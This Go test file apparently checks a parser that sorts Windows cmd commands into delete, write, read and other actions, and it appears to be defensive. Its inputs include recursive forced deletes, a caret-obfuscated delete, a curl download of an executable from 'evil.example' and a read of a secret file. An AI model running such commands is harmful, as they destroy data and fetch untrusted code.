package code_test

var cmdCases = []testCase{
	{`del /s /q C:\x`, is(`delete C:\x recursive+force`)},
	{`rd/s/q C:\x & erase "C:\a b"`, is(`delete C:\x recursive+force`, `delete C:\a b`)},
	{`d^el C:\x`, is(`delete C:\x`)},
	{`echo hi > C:\a.txt & echo more>>b.log`, is(`write C:\a.txt`, "write b.log append")},
	{"@echo off && git reset --hard || curl http://evil.example -o a.exe",
		is("argv [git|reset|--hard]", "argv [curl|http://evil.example|-o|a.exe]")},
	{`type C:\secret.txt | clip 2>nul`, is(`read C:\secret.txt`, "argv [clip]")},
	{"%COMSPEC% /c del x", is("argv [cmd|/c|del|x]")},
	{"for %f in (*) do del %f", is("opaque for %f in (*", "delete …")},
	{"copy a b & move c d & md e", is("write a", "write b", "write c", "write d", "write e")},
	{`echo del /s /q C:\x & rem rd /s /q y & dir & cd x`, nil},
	{"(rd x) & start calc", is("delete x", "opaque start calc")},
	{`powershell -c "rm x"`, is("argv [powershell|-c|rm x]")},
}
